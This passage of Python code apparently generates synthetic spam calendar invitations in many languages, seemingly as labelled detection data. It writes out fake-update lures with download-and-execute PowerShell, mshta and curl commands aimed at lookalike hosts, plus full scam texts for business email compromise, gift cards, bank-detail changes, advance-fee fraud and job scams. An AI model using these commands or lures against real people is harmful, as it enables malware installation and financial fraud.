    'pt': ('Atualização obrigatória do módulo de videoconferência', 'Para participar da reunião "{mtg}" instale a atualização do módulo: {u}'),
}


def update(lang, client, i):
    arr = arrival(2020, 2026.8) if chance(0.8) else arrival(2017, 2020)
    tz = tz_for(lang)
    rc = recipient(lang)
    host = lookalike(pick(['zoom', 'teams', 'meet', 'webex', 'adobe']))
    exe = pick(['ZoomInstallerFull.exe', 'Teams_windows_x64.msix', 'MeetingPlugin.msi', 'AdobeUpdate.exe', 'webex_setup.zip'])
    u = 'https://%s/download/%s' % (host, exe) if chance(0.7) else spam_link(pick(['r2', 'pages', 'gstorage']), 'update')
    cmd = pick(['powershell -w h -c "iex(iwr -useb https://%s/v.ps1)"' % host,
                'mshta https://%s/verify.hta # I am not a robot - reCAPTCHA ID %s' % (host, digits(4)),
                'cmd /c curl -s https://%s/c.txt | cmd' % host,
                'powershell -nop -ep bypass -c "$u=\'https://%s/p\';iex(New-Object Net.WebClient).DownloadString($u)"' % host])
    j = 'https://%s/j/%s' % (lookalike('zoom') if chance(0.5) else host, digits(10))
    kw = dict(mtg=pick(['Q3 planning', 'Budget review', 'Partnership call', 'Board update', 'Project kickoff']), u=u, mid='%s %s %s' % (digits(3), digits(4), digits(4)),
              cmd=cmd, j=j, exe=exe)
    t = pick(UPD_EN) if lang == 'en' else UPD_L[lang]
    summ, desc = fill(t[0], **kw), fill(t[1], **kw)
    snd = _sender(client, lang, ('free', 'org', 'org', 'lookalike', 'spoof'), brand=pick(['zoom', 'teams', 'meet']))
    s0, e0 = event_slot(arr, tz, days=(0, 4))
    e = ev(summ, desc, pick([j, 'Online', 'Zoom', 'Microsoft Teams']), s0, e0)
    if chance(0.25):
        e.attach = [(u, 'application/octet-stream')]
    if chance(0.2):
        e.conf = [(j, 'Join meeting')]
    s = spec('spam', 'fake-update-lure', lang, client, 'fake client update / paste-command lure' + (' (command)' if 'Win' in desc or 'PowerShell' in desc or 'Windows' in desc else ''),
             snd, rc, arr, tz, [e], others=_atts(rc, R.choice([0, 2, 5]), lang))
    return _finish(s, client)


# ====================================================================== 9 BEC
BEC_EN = [
    ('Quick favour', 'Hi {first},\nare you at your desk? I need you to handle something for me discreetly today. I\'m stuck in meetings, reply by email only.\n{boss}'),
    ('Gift cards for client appreciation', '{first}, I need you to purchase 6 Apple gift cards ($200 each) for client appreciation. Keep it between us until I announce it. Send me the codes by email.\nThanks\n{boss}'),
    ('Updated bank details – effective immediately', 'Dear Accounts Payable,\nplease note our bank account has changed due to an audit. All open invoices should be paid to:\nBank: {bank}\nIBAN: {iban}\nSWIFT: {swift}\nKindly confirm once updated.\n{vendor}'),
    ('Direct deposit change before Friday', 'Hello,\nI changed banks and want my salary to go to my new account starting this payroll. What details do you need from me?\nThanks,\n{emp}'),
    ('Confidential: acquisition wire', '{first}, we are closing a confidential acquisition. Our attorney {lawyer} will contact you with wiring instructions for ${amt}. Do not discuss with anyone else.\n{boss}\nSent from my iPhone'),
    ('Invoice {inv} – remittance account update', 'Hi,\nattached call for the settlement of invoice {inv}. Please note remittance must go to our new account at {bank} ({iban}). Old account is under maintenance.\nBest regards,\n{vendor}'),
    ('Are you available?', 'Let me know when you are available, I have a task for you.\n{boss}'),
]
BEC_L = {
    'de': ('Vertrauliche Transaktion', 'Hallo {first},\nhaben Sie heute kurz Zeit? Ich brauche Ihre Unterstützung bei einer vertraulichen Überweisung. Bitte nur per E-Mail antworten, ich bin in Meetings.\n{boss}'),
    'fr': ('Changement de coordonnées bancaires', 'Bonjour,\nsuite à un changement d\'établissement, merci de régler nos prochaines factures sur le RIB suivant :\nIBAN : {iban}\nBIC : {swift}\nCordialement,\n{vendor}'),
    'it': ('Nuove coordinate bancarie', 'Buongiorno,\nvi informiamo che le coordinate bancarie per i pagamenti sono cambiate. Nuovo IBAN: {iban}\nVi preghiamo di aggiornare l\'anagrafica fornitori.\n{vendor}'),
    'es': ('Transferencia urgente y confidencial', 'Hola {first},\nnecesito que gestiones hoy una transferencia de {amt} € para una operación confidencial. Te envío los datos por correo. No lo comentes con nadie.\n{boss}'),
    'ja': ('至急：振込先口座変更のお知らせ', '経理ご担当者様\n弊社の振込先口座が変更となりました。今後のお支払いは下記口座へお願いいたします。\n{bank} 普通 {acct}\nよろしくお願いいたします。\n{vendor}'),
    'he': ('דחוף - העברה בנקאית היום', '{first} שלום,\nאני צריך שתבצע היום העברה דחופה לספק חדש. אני בפגישות, תענה רק במייל.\n{boss}'),
}


def bec(lang, client, i):
    arr = arrival(2016.5, 2026.8)
    tz = tz_for(lang)
    org = org_of(lang)
    rc = person(lang, org[1], style='f.l')
    boss = person(lang, org[1], style='f.l')
    vendor_org = org_of(lang)
    t = pick(BEC_EN) if lang == 'en' else BEC_L[lang]
    vendor = person(lang, vendor_org[1])
    kw = dict(first=rc.first, boss=boss.name, bank=pick(['Metro Bank', 'Revolut Business', 'Wise', 'Banco Santander', 'N26', 'みずほ銀行 新宿支店']),
              iban=pick(['GB', 'DE', 'LT', 'ES', 'IT']) + digits(2) + ' ' + ' '.join(digits(4) for _ in range(4)), swift=alnum(8, 'ABCDEFGHIJKLMNOPQRSTUVWXYZ'),
              vendor='%s\n%s' % (vendor.name, vendor_org[0]), emp=person(lang).name, lawyer=person('en').name, amt='{:,}'.format(R.randint(40, 480) * 1000),
              inv='INV-' + digits(5), acct=digits(7))
    summ, desc = fill(t[0], **kw), fill(t[1], **kw)
    vend = 'bank' in desc.lower() or 'IBAN' in desc or 'RIB' in desc or '口座' in desc
    r = R.random()
    if vend:
        # supplier mailbox compromised or look-alike of supplier
        if r < 0.5 or client in ('google', 'icloud', 'yahoo', 'zoom'):
            snd = sender_for(client, lang, 'org' if client != 'google' else 'org', org=vendor_org, name=vendor.name)
            snd.role = 'compromised'
            if client in ('icloud', 'yahoo'):
                snd = sender_for(client, lang, 'free', name=vendor.name)
                snd.role = 'free'
        else:
            d = vendor_org[1].replace('.', pick(['-', '']) , 1) if chance(0.5) else vendor_org[1].split('.')[0] + pick(['-invoices', '-ltd', 'group']) + '.' + pick(['com', 'co', 'net'])
            snd = sender_for(client, lang, 'org', domain=d, name=vendor.name)
            snd.role = 'lookalike'
    else:
        if client in SPOOFABLE and r < 0.35:
            snd = Obj(name=boss.name, addr=boss.addr, domain=org[1], kind='spoof', role='spoof-internal')
        elif r < 0.7 or client in ('icloud', 'yahoo', 'zoom'):
            snd = sender_for(client, lang, 'free', name=boss.name)
            snd.role = 'free'
        else:
            d = org[1].split('.')[0] + pick(['-corp', '-group', 'inc', '-mail']) + '.' + pick(['com', 'net', 'co'])
            snd = sender_for(client, lang, 'org', domain=d, name=boss.name)
            snd.role = 'lookalike'
    s0, e0 = event_slot(arr, tz, days=(0, 2), dur=(15, 30))
    e = ev(summ, desc, pick(['', '', 'Phone', 'My office']), s0, e0)
    if chance(0.3):
        e.desc = None
        note = desc
    else:
        note = None
    s = spec('spam', 'bec', lang, client, 'BEC: %s via %s sender' % ('bank-detail/payroll change' if vend or 'salary' in desc else 'CEO urgency/gift cards', snd.role),
             snd, rc, arr, tz, [e], note=note)
    if snd.role != 'spoof-internal' and chance(0.4):
        s.reply_to = Obj(name=snd.name, addr='%s.%s@%s' % (alnum(6).lower(), digits(2), pick(['gmail.com', 'outlook.com', 'proton.me', 'gmx.com'])))
    return _finish(s, client, quirky=0.3)


# ====================================================================== 10 advance fee
AFF_EN = [
    ('Compensation payment of US${m} million', 'Attention beneficiary,\nthe United Nations compensation committee has approved your payment of US${m},500,000.00. Contact the paying officer {agent} with your full name, phone number and address.\nEmail: {mail}'),
    ('Inheritance claim – late {dec}', 'Dear {first},\nI am barrister {agent}, personal attorney to the late {dec} who died without a will. You share the same surname, and I want to present you as next of kin to claim ${m}.4M. Reply for details: {mail}'),
    ('Your ATM card of ${m},000,000.00', 'Your ATM card has been dispatched by courier. To receive it you only need to pay the delivery fee of $250. Contact {mail}'),
    ('Charity donation for you', 'I am {dec}, winner of the Powerball jackpot. I am donating $1,500,000 to five random people. Your email was chosen. Contact my agent: {mail}'),
    ('Confidential business proposal', 'Good day,\nI am {agent}, a senior official at a mining company. I need a trustworthy foreign partner to receive US${m}.2M; you keep 35%. Please reply with your private phone number.\n{mail}'),
]
AFF_L = {
    'ar': ('تعويض مالي بقيمة {m} مليون دولار', 'السيد/السيدة المحترم،\nتمت الموافقة على صرف تعويض مالي باسمك بقيمة {m} مليون دولار. يرجى التواصل مع المسؤول {agent} على البريد {mail}'),
    'pt': ('Herança não reclamada em seu nome', 'Prezado(a) {first},\nsou o advogado {agent}. Um cliente falecido deixou US$ {m},4 milhões sem herdeiros. Entre em contato: {mail}'),
    'ru': ('Наследство на ваше имя', 'Уважаемый {first},\nя адвокат {agent}. Мой покойный клиент оставил {m},5 млн долларов. Вы можете быть заявлены как наследник. Ответьте на {mail}'),
    'es': ('Fondo de compensación aprobado', 'Estimado beneficiario,\nsu pago de compensación por {m},5 millones USD ha sido aprobado. Envíe sus datos a {mail}'),
    'zh': ('遗产基金认领通知', '尊敬的{first}：\n我是律师{agent}，我的已故客户留下{m}50万美元遗产，无人继承。请回复以了解详情：{mail}'),
}


def advance(lang, client, i):
    arr = arrival(2016, 2026.8)
    tz = tz_for(lang)
    rc = recipient(lang)
    agent = pick(['Dr. Williams Kofi', 'Barr. James Okafor', 'Mrs. Helen Carter', 'Mr. Gerald Mbeki', 'Dr. Hassan Idris'])
    mail = '%s.%s@%s' % (agent.split()[-1].lower(), pick(['office', 'desk', 'claims']) + digits(2), pick(['gmail.com', 'outlook.com', 'yahoo.com', 'proton.me', 'qq.com']))
    kw = dict(m=R.randint(2, 9), agent=agent, mail=mail, first=rc.first, dec=pick(['Mr. Robert Hale', 'Engr. David Moore', 'Mrs. Dorothy Klein', 'Andrew Fallon']))
    t = pick(AFF_EN) if lang == 'en' else AFF_L[lang]
    summ, desc = fill(t[0], **kw), fill(t[1], **kw)
    snd = _sender(client, lang, ('free', 'free', 'org', 'spoof'), brand='un-compensation', name=agent if chance(0.7) else None)
    if not snd.name:
        snd.name = pick(['Payment Office', 'Claims Unit', agent])
    s0, e0 = event_slot(arr, tz, days=(1, 14))
    e = ev(summ, desc, pick(['', 'Online', 'London', 'Lomé']), s0, e0)
    s = spec('spam', 'advance-fee', lang, client, 'advance-fee fraud (%s)' % pick(['compensation', 'inheritance', 'lottery/donation']), snd, rc, arr, tz, [e],
             others=_atts(rc, R.choice([0, 10, 50, 150]), None), reply_to=Obj(name=agent, addr=mail) if chance(0.6) else None)
    return _finish(s, client)


# ====================================================================== 11 task / job scams
JOB_EN = [
    ('Remote part-time position – interview', 'Hello {first},\nyour resume was recommended by an online recruitment platform. We offer flexible remote work, 60-90 minutes a day, $200-$800 daily.\nPlease contact our HR on WhatsApp to schedule: {wa}'),
    ('Job offer: product review assistant', 'We are hiring product data optimisers for {co}. No experience needed, daily payment.\nAdd our recruiter on Telegram: {tg}'),
    ('Interview scheduled – {co} hiring team', 'Congratulations, you passed the initial screening. Your interview will be held via text chat on Telegram. Add {tg} and send code {code}.'),
    ('Earn $300/day liking YouTube videos', 'Simple tasks: like videos, take screenshots, get paid. First 3 tasks are a free trial with $50 bonus.\nWhatsApp: {wa}'),
    ('Mystery shopper assignment', 'You have been selected as a secret shopper in your area. You will receive a check to evaluate a money transfer service. Reply to {mail} with your address.'),
]
JOB_L = {
    'hi': ('घर बैठे पार्ट-टाइम नौकरी – रोज़ ₹5,000', 'नमस्ते {first} जी,\nहमें ऑनलाइन पार्ट-टाइम कर्मचारियों की ज़रूरत है। रोज़ सिर्फ़ 1 घंटा, भुगतान उसी दिन।\nव्हाट्सएप पर संपर्क करें: {wa}'),
    'th': ('งานพาร์ทไทม์ทำที่บ้าน รายได้วันละ 1,500 บาท', 'สวัสดีค่ะคุณ{first}\nเรากำลังรับสมัครพนักงานออนไลน์ ทำงานวันละ 1 ชั่วโมง รับเงินทุกวัน\nติดต่อทาง LINE: {line}'),
    'vi': ('Tuyển cộng tác viên online – thu nhập 500k/ngày', 'Chào {first},\nchúng tôi đang tuyển cộng tác viên làm nhiệm vụ online, làm tại nhà, nhận lương trong ngày.\nLiên hệ Telegram: {tg}'),
    'zh': ('兼职招聘：日结200-800元', '{first}您好，\n我们正在招聘线上兼职，每天1小时，当天结算。\n请添加HR微信或Telegram：{tg}'),
    'ar': ('وظيفة عن بعد براتب يومي', 'مرحباً {first}،\nنبحث عن موظفين للعمل من المنزل ساعة يومياً، الدفع يومي.\nتواصل مع الموارد البشرية عبر واتساب: {wa}'),
    'el': ('Εργασία από το σπίτι – 150€ την ημέρα', 'Γεια σας {first},\nαναζητούμε συνεργάτες για απλές εργασίες online. Καθημερινή πληρωμή.\nΕπικοινωνήστε στο WhatsApp: {wa}'),
}


def job(lang, client, i):
    arr = arrival(2020, 2026.8) if chance(0.85) else arrival(2016, 2020)
    tz = tz_for(lang)
    rc = recipient(lang)
    wa = 'https://wa.me/%s' % pick(['1555', '44770090', '62812', '8491', '234803']) + digits(6)
    tg = 'https://t.me/%s' % pick(['hr_', 'recruit_', 'amelia_hr', 'jobs_team_', 'careers']) + alnum(4).lower()
    kw = dict(first=rc.first, wa=wa, tg=tg, co=pick(['Amazon', 'Shopee', 'Lazada', 'Booking.com', 'TikTok Shop', 'Temu']), code=alnum(6, 'ABCDEFGHJKLMNPQRSTUVWXYZ23456789'),
              mail='hr.%s@%s' % (alnum(5).lower(), pick(['gmail.com', 'outlook.com'])), line='https://line.me/ti/p/~' + alnum(8).lower())
    t = pick(JOB_EN) if lang == 'en' else JOB_L[lang]
    summ, desc = fill(t[0], **kw), fill(t[1], **kw)
    snd = _sender(client, lang, ('free', 'free', 'org', 'lookalike'), brand=pick(['careers', 'hr', 'jobs']))
    s0, e0 = event_slot(arr, tz, days=(0, 3))
    e = ev(summ, desc, pick([kw['wa'], kw['tg'], 'Online', '']), s0, e0)
    s = spec('spam', 'task-job-scam', lang, client, 'task/job scam moving victim to messenger', snd, rc, arr, tz, [e],
             others=_atts(rc, R.choice([0, 0, 12, 80]), lang))
    return _finish(s, client)


# ====================================================================== 12 compromised document share
DOC_EN = [
    ('{co} – Purchase Order {po} for review', 'Hi,\nplease find our new purchase order attached for your review and confirmation.\nView PO: {u}\n\nKind regards\n{name}\n{co}'),
    ('RFQ documents – {proj}', 'Good afternoon,\nas discussed, here are the RFQ documents for {proj}. Please review before our call.\n{u}\nThanks,\n{name}'),
    ('Payment remittance advice', 'Hello,\nwe have processed the payment for your outstanding invoices. Remittance advice: {u}\nBest,\n{name}\nAccounts, {co}'),
    ('Proposal for review', '{name} has shared "{co} Proposal.pdf" with you.\nOpen: {u}\nThis link works for 7 days.'),
    ('Statement of account – {month}', 'Dear partner,\nplease review the attached statement and let us know of any discrepancies at our meeting.\n{u}'),
]
DOC_L = {
    'de': ('Bestellung {po} – bitte prüfen', 'Guten Tag,\nanbei unsere neue Bestellung zur Prüfung und Bestätigung.\nDokument öffnen: {u}\n\nMit freundlichen Grüßen\n{name}\n{co}'),
    'it': ('Documenti offerta – {proj}', 'Buongiorno,\ncome da accordi vi inviamo la documentazione per l\'offerta. Potete visualizzarla qui: {u}\nCordiali saluti\n{name}'),
    'pl': ('Zamówienie {po} do akceptacji', 'Dzień dobry,\nprzesyłamy zamówienie do weryfikacji: {u}\nPozdrawiam\n{name}\n{co}'),
    'tr': ('Sipariş {po} – inceleme', 'Merhaba,\nyeni siparişimizi incelemeniz için paylaşıyoruz: {u}\nSaygılarımızla\n{name}'),
    'nl': ('Betalingsspecificatie {po}', 'Goedemiddag,\nde betalingsspecificatie staat klaar in onze gedeelde map: {u}\nMet vriendelijke groet\n{name}\n{co}'),
}


def docshare(lang, client, i):
    arr = arrival(2018, 2026.8)
    tz = tz_for(lang)
    rc = recipient(lang)
    o = org_of(lang)
    name = person(lang, o[1])
    host = pick(['sharepoint', 'onedrive', 'docsend', 'wetransfer', 'dropbox'])
    u = pick(['https://%s-my.sharepoint.com.%s/:b:/g/personal/%s' % (o[1].split('.')[0], lookalike('docs'), alnum(22)),
              spam_link(pick(['look', 'gstorage', 'r2', 'ipfs', 'pages', 'forms', 'redirect']), host, rc.addr),
              'https://%s/%s/view?doc=%s' % (lookalike(host), alnum(6), hexs(12))])
    kw = dict(co=o[0], po=digits(6), proj=pick(['Warehouse extension', 'Line 3 retrofit', 'IT framework 2025', 'Facade renovation']),
              u=u, name=name.name, month=pick(['March', 'June', 'September', 'November']))
    t = pick(DOC_EN) if lang == 'en' else DOC_L[lang]
    summ, desc = fill(t[0], **kw), fill(t[1], **kw)
    snd = sender_for(client, lang, 'org', org=o, name=name.name)
    snd.addr = name.addr if client not in ('icloud', 'yahoo') else snd.addr
    snd.role = 'compromised'
    s0, e0 = event_slot(arr, tz, days=(1, 5))
    e = ev(summ, desc, pick(['', 'Teams', o[0], 'Online']), s0, e0)
    r = R.random()
    if r < 0.25:
        e.attach = [(u, 'application/pdf')]
        e.desc = desc.replace(u, '').replace('\n\n\n', '\n\n')
    elif r < 0.4:
        e.url = u
        e.desc = desc.replace(u, '(link below)')
    s = spec('spam', 'compromised-docshare', lang, client, 'document-share lure from compromised partner mailbox', snd, rc, arr, tz, [e],
             others=other_people(R.choice([0, 15, 40, 90]), lang) if chance(0.6) else [])
    return _finish(s, client, quirky=0.2)


# ====================================================================== 13 nagging payloads
NAG_EN = [
    ('Your $1000 casino bonus is waiting', 'Claim 200% welcome bonus + 100 free spins: {u}'),
    ('Cheap meds – no prescription', 'Viagra, Cialis, Tramadol. Discreet shipping. {u}'),
    ('Loan approved: $5,000 instantly', 'Bad credit OK. Money in your account today: {u}'),
    ('REMINDER: claim your reward', 'You still have an unclaimed reward. {u}'),
    ('Renew now – account expires', 'Your account expires. Renew: {u}'),
]
NAG_L = {
    'zh': ('【每日提醒】彩票网站注册送888元', '每天签到领取红包：{u}'),
    'ja': ('【毎日】オンラインカジノ 入金不要ボーナス', '今すぐ登録で30ドル進呈 → {u}'),
    'ko': ('[매일 알림] 대출 즉시 승인', '신용등급 무관, 당일 입금: {u}'),
    'th': ('แจ้งเตือนรายวัน: รับเครดิตฟรี 500 บาท', 'สมัครวันนี้ รับโบนัสทันที {u}'),
    'hi': ('रोज़ाना रिमाइंडर: ₹10,000 बोनस', 'अभी दावा करें: {u}'),
}


def nag(lang, client, i):
    arr = arrival(2016.5, 2026.8)
    tz = tz_for(lang)
    rc = recipient(lang)
    u = spam_link(None, pick(['casino', 'bonus', 'loan', 'pharma']))
    t = pick(NAG_EN) if lang == 'en' else NAG_L[lang]
    summ, desc = fill(t[0], u=u), fill(t[1], u=u)
    snd = _sender(client, lang, ('free', 'free', 'spoof', 'lookalike', 'org'), brand='promo')
    s0, e0 = event_slot(arr, tz, days=(0, 1))
    e = ev(summ, desc, u if chance(0.5) else '', s0, e0)
    trick = pick(['daily-forever', 'minutely', 'alarms', 'far-future', 'alarms+daily', 'many-events'])
    events = [e]
    if trick in ('daily-forever', 'alarms+daily'):
        e.rrule = pick(['FREQ=DAILY', 'FREQ=DAILY;INTERVAL=1', 'FREQ=HOURLY;INTERVAL=6', 'FREQ=DAILY;UNTIL=20991231T235959Z'])
    if trick == 'minutely':
        e.rrule = pick(['FREQ=MINUTELY;INTERVAL=30', 'FREQ=HOURLY'])
    if trick in ('alarms', 'alarms+daily'):
        e.alarms = [{'trigger': '-PT%dM' % m, 'desc': summ} for m in sorted(R.sample(range(0, 2880, 5), R.randint(8, 25)), reverse=True)]
        if chance(0.5):
            e.alarms.append({'trigger': '-PT1M', 'desc': summ, 'repeat': 99, 'duration': 'PT1M'})
    if trick == 'far-future':
        y = pick([2036, 2045, 2099, 2199])
        e.start = e.start.replace(year=y)
        e.end = e.end.replace(year=y)
        e.rrule = 'FREQ=YEARLY' if chance(0.5) else None
        e.alarms = [{'trigger': '-P%dD' % d} for d in (365, 30, 7, 1)]
    if trick == 'many-events':
        for k in range(1, R.randint(8, 20)):
            e2 = ev(summ, desc, e.loc, e.start + dt.timedelta(days=k), e.end + dt.timedelta(days=k))
            e2.alarms = [{'trigger': '-PT5M'}]
            events.append(e2)
    if not e.alarms and chance(0.6):
        e.alarms = [{'trigger': '-PT%dM' % m} for m in (60, 30, 15, 10, 5, 1)]
    s = spec('spam', 'nagging-payload', lang, client, 'promo with nagging payload: %s' % trick, snd, rc, arr, tz, events,
             others=_atts(rc, R.choice([0, 0, 20]), lang))
    return _finish(s, client)


# ====================================================================== 14 mass invitations
MASS_EN = [
    ('Exclusive SEO & Lead Generation Webinar', 'Get 500+ qualified B2B leads every month. Free strategy session for the first 50 registrants.\nBook: {u}'),
    ('Free Investment Seminar – Retire Early', 'Learn how ordinary people build passive income with real estate tokens.\nSeats are limited: {u}'),
    ('Global Trade Expo – VIP pass for you', 'You are invited as VIP visitor. Register your free pass now: {u}'),
    ('Happy New Year from our team!', 'Wishing you a prosperous year! Enjoy 50% off all services in January: {u}'),
    ('Weight loss breakthrough – live Q&A', 'Doctors hate this simple trick. Join the live presentation: {u}'),
]
MASS_L = {
    'vi': ('Hội thảo đầu tư miễn phí – Tự do tài chính', 'Tham gia hội thảo trực tuyến, nhận ngay quà tặng. Đăng ký: {u}'),
    'tr': ('Ücretsiz Yatırım Semineri', 'Pasif gelir elde etmenin yollarını öğrenin. Kayıt: {u}'),
    'el': ('Δωρεάν σεμινάριο επενδύσεων', 'Μάθετε πώς να αποκτήσετε παθητικό εισόδημα. Εγγραφή: {u}'),
    'he': ('סמינר השקעות חינם – מספר המקומות מוגבל', 'הצטרפו לוובינר ולמדו איך להרוויח מנדל"ן בחו"ל. הרשמה: {u}'),
    'ar': ('ندوة مجانية: كيف تحقق دخلاً إضافياً', 'سجل الآن واحصل على استشارة مجانية: {u}'),
}


def mass(lang, client, i):
    arr = arrival(2016.5, 2026.8)
    tz = tz_for(lang)
    rc = recipient(lang)
    u = spam_link(None, pick(['expo', 'webinar', 'seminar', 'leads']))
    t = pick(MASS_EN) if lang == 'en' else MASS_L[lang]
    summ, desc = fill(t[0], u=u), fill(t[1], u=u)
    snd = _sender(client, lang, ('free', 'free', 'org', 'lookalike'), brand='events')
    s0, e0 = event_slot(arr, tz, days=(2, 20))
    e = ev(summ, desc, pick(['Online', u, 'Webinar', '']), s0, e0)
    n = R.randint(150, 520)
    others = other_people(n, None, None)
    s = spec('spam', 'mass-invite', lang, client, 'promotion sent to %d unrelated attendees' % (n + 1), snd, rc, arr, tz, [e], others=others)
    if client in ('outlook', 'teams', 'applemail', 'thunderbird', 'zimbra', 'sogo', 'custom', 'yahoo') and chance(0.6):
        s.to = [rc] + others[:R.randint(20, n)]
    return _finish(s, client)


CATEGORIES = [
    # name, function, languages (non-English), english count, allowed clients
    ('retail-sale-wave', retail, ['zh', 'ja', 'de', 'fr', 'ko', 'es'], 6, None),
    ('prize-survey-giftcard', prize, ['ru', 'pt', 'it', 'tr', 'vi', 'th'], 6, None),
    ('crypto-investment', crypto, ['ru', 'de', 'ar', 'hi', 'ko', 'nl'], 6, None),
    ('dating-sextortion', dating, ['ru', 'he', 'pl', 'ja', 'fr'], 6, None),
    ('fee-scam', fee, ['nl', 'de', 'fr', 'es', 'it', 'pt'], 6, None),
    ('credential-phish', phish, ['de', 'el', 'ar', 'he', 'zh', 'th', 'pl'], 7, None),
    ('callback-scam', callback, ['fr', 'es', 'nl', 'hi', 'vi'], 6, None),
    ('fake-update-lure', update, ['ru', 'tr', 'ko', 'el', 'pt'], 6, None),
    ('bec', bec, ['de', 'fr', 'it', 'es', 'ja', 'he'], 7, ['google', 'outlook', 'teams', 'applemail', 'thunderbird', 'icloud', 'yahoo', 'zimbra', 'custom', 'sogo', 'nextcloud']),
    ('advance-fee', advance, ['ar', 'pt', 'ru', 'es', 'zh'], 5, None),
    ('task-job-scam', job, ['hi', 'th', 'vi', 'zh', 'ar', 'el'], 5, None),
    ('compromised-docshare', docshare, ['de', 'it', 'pl', 'tr', 'nl'], 6, ['google', 'outlook', 'teams', 'zimbra', 'nextcloud', 'sogo', 'thunderbird', 'applemail', 'custom', 'zoom']),
    ('nagging-payload', nag, ['zh', 'ja', 'ko', 'th', 'hi'], 5, ['google', 'outlook', 'icloud', 'applemail', 'thunderbird', 'yahoo', 'custom', 'nextcloud', 'zimbra', 'sogo']),
    ('mass-invite', mass, ['vi', 'tr', 'el', 'he', 'ar'], 5, ['google', 'outlook', 'teams', 'icloud', 'yahoo', 'thunderbird', 'custom', 'zoom', 'applemail', 'zimbra']),
]
